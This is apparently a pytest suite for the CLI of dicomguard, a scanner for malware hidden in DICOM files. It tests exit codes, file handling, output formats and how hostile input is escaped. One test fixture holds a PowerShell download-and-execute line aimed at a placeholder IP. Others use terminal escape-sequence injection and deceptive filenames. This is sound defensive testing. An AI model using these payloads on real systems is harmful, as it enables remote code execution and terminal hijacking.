"""``dicomguard check`` as people and programs run it: a process, its output and its exit code."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import os
import pty
import re
import select
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

import dicomguard
from dicomguard import naming
from fixtures.build import COMMITTED, HERE, all_fixtures
from fixtures.carriers import carrier
from fixtures.dicomfile import PATIENT_NAME, element, private
from fixtures.executables import tiny_pe

SOURCES = Path(dicomguard.__file__).parents[1]
COMMENTS = 0x00104000
ESCAPE_SEQUENCE = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")


def environment(**variables: str) -> dict[str, str]:
    plain = {name: value for name, value in os.environ.items() if name != "NO_COLOR"}
    return plain | {"PYTHONPATH": str(SOURCES), "TERM": "xterm-256color"} | variables


@dataclass(frozen=True)
class Run:
    code: int
    out: str
    err: str

    @property
    def lines(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.out.splitlines()]

    @property
    def files(self) -> list[dict[str, Any]]:
        return [line for line in self.lines if line["type"] == "file"]

    @property
    def summary(self) -> dict[str, Any]:
        return self.lines[-1]

    @property
    def verdicts(self) -> dict[str, str]:
        return {Path(each["path"]).name: each["verdict"] for each in self.files}


def command(*arguments: str | bytes | Path) -> list[str | bytes | Path]:
    return [sys.executable, "-m", "dicomguard", "check", "--workers", "1", *arguments]


def check(*arguments: str | bytes | Path, stdin: bytes | None = None, **variables: str) -> Run:
    """Run with standard output and error piped."""
    done = subprocess.run(
        command(*arguments),
        input=stdin,
        stdin=subprocess.DEVNULL if stdin is None else None,
        capture_output=True,
        env=environment(**variables),
        timeout=60,
        check=False,
    )
    return Run(done.returncode, done.stdout.decode(), done.stderr.decode())


def check_json(*arguments: str | bytes | Path, stdin: bytes | None = None) -> Run:
    return check("--format", "jsonl", *arguments, stdin=stdin)


def check_on_terminal(*arguments: str | bytes | Path, **variables: str) -> Run:
    """Run with standard output and error on one terminal."""
    controller, terminal = pty.openpty()
    with subprocess.Popen(
        command(*arguments),
        stdin=subprocess.DEVNULL,
        stdout=terminal,
        stderr=terminal,
        env=environment(**variables),
    ) as process:
        os.close(terminal)
        shown = b"".join(_read(controller))
        code = process.wait(30)
    os.close(controller)
    return Run(code, shown.decode().replace("\r\n", "\n"), "")


def _read(descriptor: int) -> Iterator[bytes]:
    while select.select([descriptor], [], [], 30)[0]:
        try:
            chunk = os.read(descriptor, 1 << 16)
        except OSError:  # the last writer has closed the terminal
            return
        if not chunk:
            return
        yield chunk


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    path = tmp_path / "incoming"
    path.mkdir()
    return path


def put(folder: Path, name: str | bytes, data: bytes | str) -> Path:
    """Write a file, or the fixture of that name, to a folder."""
    path = folder / os.fsdecode(name)
    path.write_bytes(all_fixtures()[data].data if isinstance(data, str) else data)
    return path


# ---------------------------------------------------------------------- exit codes


def test_everything_is_clean(folder: Path) -> None:
    put(folder, "a", "ct")
    put(folder, "b", "preamble-ge")
    run = check(folder)
    assert (run.code, run.err) == (0, "")
    assert "2 clean" in run.out


@pytest.mark.parametrize("name", ["deflate-tail", "poly-pe"])
def test_something_was_found(folder: Path, name: str) -> None:
    put(folder, "a", "ct")
    put(folder, "b", name)
    assert check(folder).code == 1


def test_something_was_found_and_something_could_not_be_examined(folder: Path) -> None:
    put(folder, "a", "poly-pe")
    run = check_json(folder, folder / "missing")
    assert run.code == run.summary["exit_code"] == 1
    assert run.summary["verdicts"] == {
        "clean": 0,
        "incomplete": 1,
        "suspicious": 0,
        "malicious": 1,
    }
    assert run.summary["not_fully_examined"] == 1


def test_an_empty_folder_is_nothing_to_scan(folder: Path) -> None:
    run = check(folder)
    assert run.code == 2
    assert "nothing to scan" in run.err


@pytest.mark.parametrize(
    "arguments",
    [(), ("--format", "docx", "."), ("--workers", "0", "."), ("--no-such-option", ".")],
    ids=str,
)
def test_wrong_usage(arguments: tuple[str, ...]) -> None:
    run = check(*arguments)
    assert (run.code, run.out) == (2, "")
    assert run.err


def test_wrong_rules_stop_the_run_before_it_starts(folder: Path) -> None:
    put(folder, "a.dcm", "poly-pe")
    rules = put(folder, b"b\x1b[31m.yar", b"rule broken {\n condition: }")
    run = check("--rules", folder, folder)
    assert (run.code, run.out) == (2, "")
    assert "\x1b" not in run.err
    assert rules.name.replace("\x1b", r"\x1b") in run.err
    assert "Traceback" not in run.err


@pytest.mark.parametrize("format_", ["text", "jsonl"])
def test_a_missing_path_is_not_examined(folder: Path, format_: str) -> None:
    put(folder, "a", "ct")
    run = check("--format", format_, folder / "missing", folder)
    assert run.code == 3
    assert "No such file" in run.out


def test_a_path_that_is_too_long_is_not_examined(folder: Path) -> None:
    put(folder, "a", "ct")
    run = check_json(folder / ("n" * 300), folder)
    assert run.code == 3
    assert [each["verdict"] for each in run.files] == ["incomplete", "clean"]


# ---------------------------------------------------------------------- what is opened


def test_files_are_found_at_any_depth_and_under_any_name(folder: Path) -> None:
    (folder / "a" / "b").mkdir(parents=True)
    put(folder / "a" / "b", "no-suffix", "poly-pe")
    put(folder / "a", ".hidden.txt", "poly-pe")
    put(folder, "image.dcm", "ct")
    run = check_json(folder)
    assert run.verdicts == {
        "no-suffix": "malicious",
        ".hidden.txt": "malicious",
        "image.dcm": "clean",
    }
    assert len(run.files) == run.summary["files"] == 3


def test_only_regular_files_are_opened(folder: Path) -> None:
    """A FIFO without a writer would block whoever opens it, a socket cannot be opened."""
    bad = put(folder.parent, "elsewhere.dcm", "poly-pe")
    put(folder, "a.dcm", "ct")
    (folder / "link").symlink_to(bad)
    (folder / "dangling").symlink_to(folder / "nowhere")
    (folder / "folder-link").symlink_to(folder.parent)
    os.mkfifo(folder / "fifo")
    with socket.socket(socket.AF_UNIX) as unix:
        unix.bind(str(folder / "socket"))
        expected = {"symbolic link": 3, "FIFO": 1, "socket": 1}
        try:
            os.mknod(folder / "null", 0o020600, os.makedev(1, 3))
            expected["device"] = 1
        except PermissionError:
            pass  # only root makes devices
        run = check_json(folder)
        text = check(folder)
    assert run.code == text.code == 0
    assert run.verdicts == {"a.dcm": "clean"}
    assert run.summary["skipped"] == expected
    assert "1 FIFO" in text.out
    assert "3 symbolic link" in text.out


@pytest.mark.parametrize("name", ["/dev/null", "fifo", "link"])
def test_a_path_that_is_named_is_not_opened_either(folder: Path, name: str) -> None:
    os.mkfifo(folder / "fifo")
    (folder / "link").symlink_to(put(folder, "a.dcm", "ct"))
    run = check(folder / name)
    assert run.code == 2
    assert "not opened: 1" in run.out


def test_a_link_to_a_folder_is_followed_if_it_is_named(folder: Path) -> None:
    put(folder, "a.dcm", "poly-pe")
    link = folder.parent / "link"
    link.symlink_to(folder)
    assert check_json(link).verdicts == {"a.dcm": "malicious"}


WITHOUT_PRIVILEGE = """
import ctypes, os, sys
PR_CAPBSET_DROP, CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH = 24, 1, 2
for capability in (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH):
    if os.geteuid() == 0 and ctypes.CDLL(None).prctl(PR_CAPBSET_DROP, capability, 0, 0, 0):
        sys.exit("privileges stay")
os.execv(sys.argv[1], sys.argv[1:])
"""
"""Runs a command for which file permissions hold, as they do not for root."""


def check_without_privilege(*arguments: str | Path) -> Run:
    done = subprocess.run(
        [sys.executable, "-c", WITHOUT_PRIVILEGE, *command(*arguments)],
        capture_output=True,
        text=True,
        env=environment(),
        timeout=60,
        check=False,
    )
    if "privileges stay" in done.stderr:
        pytest.skip("root's privileges cannot be laid down here")
    return Run(done.returncode, done.stdout, done.stderr)


def test_what_may_not_be_read_is_not_examined(folder: Path) -> None:
    put(folder, "a.dcm", "ct")
    put(folder, "locked.dcm", "poly-pe").chmod(0)
    (folder / "locked").mkdir()
    put(folder / "locked", "inside.dcm", "poly-pe")
    (folder / "locked").chmod(0)
    run = check_without_privilege("--format", "jsonl", folder)
    assert run.code == 3, run.err
    assert run.verdicts == {"a.dcm": "clean", "locked.dcm": "incomplete", "locked": "incomplete"}
    reasons = [each["unexamined"] for each in run.files if each["verdict"] == "incomplete"]
    assert reasons == [["Permission denied"]] * 2


def test_rules_that_may_not_be_read_are_not_left_out(folder: Path) -> None:
    put(folder, "sound.yar", b"rule a { condition: false }")
    (folder / "locked").mkdir(mode=0)
    run = check_without_privilege("--rules", folder, folder / "sound.yar")
    assert (run.code, run.out) == (2, "")
    assert "locked" in run.err


# ---------------------------------------------------------------------- standard input


def test_standard_input_is_a_file_like_any_other() -> None:
    run = check_json("-", stdin=all_fixtures()["poly-pe"].data)
    assert run.code == 1
    (file,) = run.files
    assert (file["path"], file["verdict"]) == ("-", "malicious")
    assert file["size"] == len(all_fixtures()["poly-pe"].data)


def test_standard_input_that_is_clean() -> None:
    assert check("-", stdin=all_fixtures()["ct"].data).code == 0


def test_standard_input_that_is_closed() -> None:
    shell = f"exec {sys.executable} -m dicomguard check - <&-"
    done = subprocess.run(
        ["sh", "-c", shell], capture_output=True, text=True, env=environment(), check=False
    )
    assert done.returncode == 3, done.stderr
    assert "Traceback" not in done.stderr


# ---------------------------------------------------------------------- what is found


def test_a_bare_program_is_malicious_and_said_to_be_no_dicom(folder: Path) -> None:
    path = put(folder, "setup.dcm", tiny_pe())
    run = check_json(path)
    assert run.code == 1
    (file,) = run.files
    assert (file["verdict"], file["is_dicom"]) == ("malicious", False)
    assert [each["id"] for each in file["findings"]] == ["POLY-PE", "NOT-DICOM"]


def test_a_file_that_is_not_dicom_is_said_to_be_none(folder: Path) -> None:
    path = put(folder, "readme.txt", b"nothing here")
    assert "conformance: NOT-DICOM" in check(path).out
    run = check("-v", path)
    assert run.code == 0
    assert re.search(r"NOT-DICOM\s+Not a DICOM file", run.out)


def test_an_empty_file_is_clean(folder: Path) -> None:
    assert check_json(put(folder, "empty", b"")).verdicts == {"empty": "clean"}


def test_strict_makes_one_medium_suspicious(folder: Path) -> None:
    path = put(folder, "a.dcm", "tail-text")
    assert check(path).code == 0
    run = check("--strict", path)
    assert run.code == 1
    assert run.out.startswith("suspicious")


def test_rules_of_ones_own(folder: Path) -> None:
    rules = folder / "rules"
    rules.mkdir()
    put(rules, "own.yar", b'rule found_it { strings: $a = "CompressedSamples" condition: $a }')
    path = put(folder, "a.dcm", "ct")
    (file,) = check_json("--rules", rules, path).files
    assert file["verdict"] == "malicious"
    assert "found_it" in {each["rule"] for each in file["findings"]}


def test_what_a_rule_prints_is_no_part_of_the_report(folder: Path) -> None:
    rules = folder / "rules"
    rules.mkdir()
    source = b'import "console" rule talks { condition: console.log("INTRUDER\\n") }'
    put(rules, "own.yar", source)
    run = check_json("--rules", rules, put(folder, "a.dcm", "ct"))
    assert run.verdicts == {"a.dcm": "malicious"}
    assert "INTRUDER" not in run.out


@pytest.mark.parametrize("engine", ["yara", "yara-x"])
def test_the_engine_is_chosen_and_named(folder: Path, engine: str) -> None:
    run = check_json("--engine", engine, put(folder, "a.dcm", "poly-pe"))
    assert run.code == 1
    assert run.summary["engine"] == engine


def test_reports_come_in_order_of_name_if_asked(folder: Path) -> None:
    names = [f"{number:03}" for number in range(60)]
    for name in names:
        put(folder, name, "poly-pe" if name.endswith("7") else "ct")
    run = check_json("--workers", "4", "--sort", folder)
    assert [Path(each["path"]).name for each in run.files] == names
    unsorted = check_json("--workers", "4", folder)
    assert sorted(Path(each["path"]).name for each in unsorted.files) == names
    assert [name for name, verdict in run.verdicts.items() if verdict == "malicious"] == [
        name for name in names if name.endswith("7")
    ]


def test_a_file_that_changes_while_it_is_read(folder: Path) -> None:
    path = put(folder, "a.dcm", carrier().data)
    os.truncate(path, 200 << 20)  # so that it takes far longer to read than to find who reads it
    good = put(folder, "b.dcm", "poly-pe")
    with subprocess.Popen(
        command("--format", "jsonl", path, good), stdout=subprocess.PIPE, env=environment()
    ) as process:
        _wait_until_mapped(path)  # and not only open: by then the scan knows its size
        os.truncate(path, 100)
        assert process.stdout
        out = process.stdout.read().decode()
        code = process.wait(60)
    run = Run(code, out, "")
    assert run.verdicts == {"a.dcm": "incomplete", "b.dcm": "malicious"}
    assert code == 1


def _wait_until_mapped(path: Path) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        for entry in Path("/proc").glob("[0-9]*/maps"):
            with contextlib.suppress(OSError):
                if str(path) in entry.read_text():
                    return
    pytest.fail("nobody mapped the file")


@pytest.mark.parametrize("format_", ["text", "json", "jsonl", "sarif", "csv"])
def test_ctrl_c_ends_the_run_and_leaves_a_whole_report(folder: Path, format_: str) -> None:
    put(folder, "a.dcm", "poly-pe")
    path = put(folder, "b.dcm", carrier().data)
    os.truncate(path, 600 << 20)
    with subprocess.Popen(
        command("--format", format_, folder),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=environment(PYTHONUNBUFFERED="1"),
        start_new_session=True,
    ) as process:
        assert process.stdout
        out = b""
        while b"POLY-PE" not in out:
            out += os.read(process.stdout.fileno(), 1 << 16)
        os.killpg(process.pid, signal.SIGINT)
        rest, err = process.communicate(timeout=20)
        out += rest
    assert process.returncode == 130
    assert b"Traceback" not in out + err
    shown = out.decode()
    assert "POLY-PE" in shown
    assert "interrupted" in (err.decode() if format_ == "csv" else shown)
    if format_ == "jsonl":
        assert json.loads(shown.splitlines()[-1])["interrupted"]
    if format_ == "json":
        assert json.loads(shown)["summary"]["exit_code"] == 130
    if format_ == "sarif":
        (invocation,) = json.loads(shown)["runs"][0]["invocations"]
        assert not invocation["executionSuccessful"]


# ---------------------------------------------------------------------- JSON Lines

FILE_KEYS = {
    "type", "schema", "path", "verdict", "complete", "size", "modified", "sha256", "is_dicom",
    "transfer_syntax", "instance", "unexamined", "findings", "suppressed",
}  # fmt: skip
FINDING_KEYS = {
    "id", "title", "category", "severity", "confidence", "region", "tag_path", "offset", "length",
    "inner_offset", "chain", "detail", "evidence", "why", "private_creator", "count", "rule",
    "reference", "attack",
}  # fmt: skip
SUMMARY_KEYS = {
    "type", "schema", "dicomguard", "rules", "engine", "packs", "started", "seconds", "interrupted",
    "files", "bytes", "verdicts", "not_fully_examined", "unexamined", "skipped", "suppressed",
    "findings", "exit_code",
}  # fmt: skip


def test_jsonl_keeps_its_contract(fixture_files: dict[str, Path], folder: Path) -> None:
    for path in fixture_files.values():
        shutil.copy(path, folder)
    run = check_json(folder, folder / "missing")
    assert run.out.isascii()
    assert run.err == ""
    *files, summary = run.lines
    assert all(each["type"] == "file" for each in files)
    assert summary["type"] == "summary"
    assert {frozenset(each) for each in files} == {frozenset(FILE_KEYS)}
    assert set(summary) == SUMMARY_KEYS
    findings = [finding for each in files for finding in each["findings"]]
    assert {frozenset(each) for each in findings} == {frozenset(FINDING_KEYS)}
    assert {each["schema"] for each in run.lines} == {1}
    assert len(files) == summary["files"] == len(fixture_files) + 1
    assert sum(summary["verdicts"].values()) == summary["files"]
    assert summary["bytes"] == sum(each["size"] for each in files)
    assert summary["exit_code"] == run.code == 1
    for each in files:
        assert (each["sha256"] is None) == (each["verdict"] == "clean" or not each["size"])
        assert each["complete"] == (not each["unexamined"])


def test_one_run_agrees_with_the_library(fixture_files: dict[str, Path], folder: Path) -> None:
    for path in fixture_files.values():
        shutil.copy(path, folder)
    expected = {path.name: str(dicomguard.scan_file(path).verdict) for path in folder.iterdir()}
    assert check_json(folder).verdicts == expected


# ---------------------------------------------------------------------- hostile names and contents

HOSTILE_NAMES = {
    b"new\nline.dcm": r"new\nline.dcm",
    b"\x1b[2Jescape.dcm": r"\x1b[2Jescape.dcm",
    b"cr\rclean.dcm": r"cr\rclean.dcm",
    "bidi\u202emcd.exe".encode(): r"bidi\u202emcd.exe",
    "zero\u200bwidth.dcm".encode(): r"zero\u200bwidth.dcm",
    "c1\u009b31m.dcm".encode(): r"c1\x9b31m.dcm",
    b"invalid\xff\xfe.dcm": r"invalid\udcff\udcfe.dcm",
    b"--format": "--format",
    b"-": "/-",
    b"[bold]markup[blink].dcm": "[bold]markup[blink].dcm",
    "Ünïcode-日本.dcm".encode(): "Ünïcode-日本.dcm",
}


@pytest.fixture
def hostile(folder: Path) -> Path:
    for name in HOSTILE_NAMES:
        put(folder, name, "poly-pe")
    return folder


def test_hostile_names_are_escaped_in_text(hostile: Path) -> None:
    run = check(hostile)
    assert run.code == 1
    assert f"{len(HOSTILE_NAMES)} malicious" in run.out
    for shown in HOSTILE_NAMES.values():
        assert shown in run.out
    assert all(char.isprintable() or char == "\n" for char in run.out)
    verdicts = [line for line in run.out.splitlines() if line.startswith("malicious")]
    assert len(verdicts) == len(HOSTILE_NAMES)


def test_hostile_names_survive_json(hostile: Path) -> None:
    run = check_json(hostile)
    assert run.out.isascii()
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", run.out)
    assert {os.fsencode(each["path"]) for each in run.files} == {
        os.fsencode(hostile) + b"/" + name for name in HOSTILE_NAMES
    }


def test_hostile_names_on_the_command_line(hostile: Path) -> None:
    names = [os.fsencode(hostile) + b"/" + name for name in HOSTILE_NAMES]
    assert check_json(*names).summary["verdicts"]["malicious"] == len(names)


def test_a_name_that_the_terminal_cannot_show_stops_no_run(hostile: Path) -> None:
    run = check(hostile, PYTHONIOENCODING="ascii")
    assert run.code == 1
    assert run.out.isascii()
    assert f"{len(HOSTILE_NAMES)} malicious" in run.out


SECRET = "Unmistakable^Jane"
PAYLOAD = (
    b"\x1b]0;owned\x07\x1b[31m" + SECRET.encode() + b" powershell -enc SQBFAFgA; IEX "
    b"(New-Object Net.WebClient).DownloadString('http://192.0.2.1/')"
)


@pytest.mark.parametrize(("tag", "vr"), [(PATIENT_NAME, "PN"), (COMMENTS, "UN")])
def test_text_of_a_value_is_shown_only_on_demand(folder: Path, tag: int, vr: str) -> None:
    path = put(folder, "a.dcm", carrier().with_(element(tag, vr, PAYLOAD)).data)
    for format_ in ("text", "jsonl"):
        hidden = check("--format", format_, path)
        shown = check("--format", format_, "--show-values", path)
        assert hidden.code == shown.code == 1
        assert "EMB-SCRIPT" in hidden.out
        for word in (SECRET, "Unmistakable", "Net.WebClient", "SQBF"):
            assert word not in hidden.out
        assert "powershell -enc" in shown.out
        for run in (hidden, shown):
            assert "\x1b" not in run.out
            assert "\x07" not in run.out


def test_eicar_in_a_patient_name_is_found_and_not_shown(folder: Path) -> None:
    eicar = all_fixtures()["eicar-text"]
    path = put(folder, "a.dcm", eicar.data)
    for run in (check(path), check_json(path)):
        assert run.code == 1
        assert "EMB-EICAR" in run.out
        assert "STANDARD-ANTIVIRUS" not in run.out
    assert "STANDARD-ANTIVIRUS" in check("--show-values", path).out


ORPHAN = element(0x00091001, "LO", SECRET.encode())


@pytest.mark.parametrize(
    "data",
    [
        carrier().with_(ORPHAN).data,
        carrier().with_(element(0x00020099, "LO", SECRET.encode())).data,
        element(0x00080005, "CS", SECRET.encode()).encoded + carrier().body,
    ],
    ids=["private element without creator", "unknown file meta", "data set without file meta"],
)
def test_text_behind_a_header_is_not_shown_either(folder: Path, data: bytes) -> None:
    run = check_json("--strict", put(folder, "a.dcm", data))
    assert run.files[0]["findings"]
    assert SECRET not in run.out


def test_what_libmagic_quotes_is_not_shown(folder: Path) -> None:
    if not naming.is_available():
        pytest.skip("libmagic is not installed")
    packed = io.BytesIO()
    with gzip.GzipFile(f"{SECRET}.txt", "wb", fileobj=packed) as stream:
        stream.write(b"nothing")
    run = check_json(put(folder, "a.dcm", carrier().but(tail=packed.getvalue()).data))
    assert "TAIL-DATA" in run.out
    assert SECRET not in json.dumps([each["detail"] for each in run.files[0]["findings"]])


@pytest.mark.parametrize("format_", ["text", "jsonl"])
def test_nothing_in_a_file_drives_the_terminal(folder: Path, format_: str) -> None:
    evil = b"\x1b[31m\x9b31m\r\n\x07\xe2\x80\xae"
    path = put(
        folder,
        "a.dcm",
        carrier()
        .but(preamble=(b"#!/bin/sh\n" + evil).ljust(128, b"\0"), tail=evil * 20)
        .with_(*private(evil * 10, creator=evil), element(PATIENT_NAME, "PN", evil * 4))
        .with_(element(0x00020010, "UI", evil), element(0x00080060, "CS", evil))
        .data,
    )
    run = check("--format", format_, "--show-values", "--strict", path)
    assert run.code == 1
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", run.out)


# ---------------------------------------------------------------------- the terminal

COLOUR = re.compile(r"\x1b\[(?:\d+;)*(?:3\d|4\d|9\d|10\d)(?:;\d+)*m")


def test_colour_on_a_terminal_only(folder: Path) -> None:
    path = put(folder, "a.dcm", "poly-pe")
    shown = check_on_terminal(path)
    assert shown.code == 1
    assert COLOUR.search(shown.out)
    assert "\x1b" not in check(path).out


def test_no_color_is_honoured(folder: Path) -> None:
    shown = check_on_terminal(put(folder, "a.dcm", "poly-pe"), NO_COLOR="1")
    assert not COLOUR.search(shown.out)
    assert "malicious" in shown.out


def test_json_is_the_same_on_a_terminal(folder: Path) -> None:
    put(folder, "a.dcm", "poly-pe")
    shown = check_on_terminal("--format", "jsonl", folder)
    assert shown.files == check_json(folder).files


def test_a_terminal_says_what_a_pipe_says(folder: Path) -> None:
    path = put(folder, "a.dcm", "poly-pe")
    shown = ESCAPE_SEQUENCE.sub("", check_on_terminal(path).out)
    rate = re.compile(r"^[\d.]+ s: .*$", re.MULTILINE)
    assert rate.sub("", shown).split() == rate.sub("", check(path).out).split()


def test_a_short_run_shows_no_progress(folder: Path) -> None:
    path = put(folder, "a.dcm", "ct")
    assert "examined" not in check_on_terminal(path).out


def test_a_long_run_shows_progress_on_standard_error(folder: Path) -> None:
    """Standard error on a terminal, standard output piped: the report has no trace of it."""
    for number in range(40):
        put(folder, f"{number:03}", "poly-pe")
    large = put(folder, "large", carrier().data)
    os.truncate(large, 200 << 20)
    controller, terminal = pty.openpty()
    with subprocess.Popen(
        command("--format", "jsonl", large, folder),
        stdout=subprocess.PIPE,
        stderr=terminal,
        env=environment(),
    ) as process:
        os.close(terminal)
        shown: list[bytes] = []
        reader = Thread(target=lambda: shown.extend(_read(controller)))
        reader.start()  # a terminal that nobody reads blocks who writes to it
        out = process.communicate(timeout=60)[0].decode()
        reader.join()
    os.close(controller)
    assert re.search(r"\d+/42", b"".join(shown).decode())
    run = Run(process.returncode, out, "")
    assert run.summary["files"] == 42
    assert run.code == 1


# ---------------------------------------------------------------------- the committed fixtures

TEXT = """\
malicious {folder}/pe-nested.dcm
critical EMB-PE Windows executable (malware, confirmed)
where private (0040,0275)[0] > (0040,0008)[1] > (0009,1001), offset 1574, 1024 bytes
what PE32+ executable, x86-64, 1 section
malicious {folder}/poly-elf-x86_64.dcm
critical POLY-ELF The file itself is: Linux executable (malware, confirmed)
where preamble, offset 0, 752 bytes
what ELF 64-bit LSB executable, x86-64
malicious {folder}/poly-pdf.dcm
high POLY-PDF The file itself is: PDF document (malware, confirmed)
where preamble, offset 0, 10331 bytes
what PDF 1.4 document
malicious {folder}/poly-pe.dcm
critical POLY-PE The file itself is: Windows executable (malware, confirmed)
where preamble, offset 0, 2560 bytes
what PE32+ executable, x86-64, 1 section
malicious {folder}/poly-shell.dcm
critical POLY-SCRIPT-SHEBANG The file itself is: Script with an interpreter line (malware, confirmed)
where preamble, offset 0, 18 bytes
what script for sh
malicious {folder}/poly-zip.dcm
high POLY-ZIP The file itself is: ZIP archive or office document (malware, confirmed)
where padding (FFFC,FFFC), offset 9704, 174 bytes
what ZIP archive, 1 member
"""  # noqa: E501


def test_the_report_on_the_committed_files() -> None:
    run = check(HERE / "malicious", HERE / "clean")
    assert run.code == 1
    lines = [" ".join(line.split()) for line in run.out.splitlines()]
    stable = [
        line for line in lines if re.match("malicious|critical|high|where|what|suspicious", line)
    ]
    assert "\n".join(stable) + "\n" == TEXT.format(folder=HERE / "malicious")
    files = sum(len(members) for members in COMMITTED.values())
    totals = next(line for line in lines if line.startswith(f"{files} files, "))
    assert totals.endswith(": 6 malicious, 0 suspicious, 0 incomplete, 2 clean")
    assert "Do not open, import or forward this file." in run.out
    assert str(HERE / "clean") not in run.out, "clean files that nobody named are not listed"


def test_a_clean_file_is_listed_if_it_is_named() -> None:
    run = check(HERE / "clean" / "ct.dcm")
    assert run.out.startswith(f"clean       {HERE / 'clean' / 'ct.dcm'}\n")
